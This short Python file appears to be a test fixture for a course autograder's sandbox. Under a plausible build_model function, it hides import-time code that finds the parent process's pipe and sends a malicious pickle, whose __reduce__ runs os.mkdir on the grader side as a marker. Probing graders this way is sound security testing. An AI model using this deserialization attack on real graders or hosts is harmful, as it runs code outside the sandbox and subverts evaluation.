# Sends the parent a pickle that runs code where it is read.
# crash: a report that can't be read

import gc
import multiprocessing.connection
import os

import keras


def channel():
    """The connection to the parent."""
    found = [thing for thing in gc.get_objects() if type(thing) is multiprocessing.connection.Connection]
    return next(connection for connection in found if not connection.closed)


class Payload:
    def __reduce__(self):
        return os.mkdir, ("COURSE_FOLDER/was_here",)


channel().send(Payload())


def build_model(units=3):
    return keras.Sequential([keras.Input((2,), name="pair"), keras.layers.Dense(2, name="triple")])
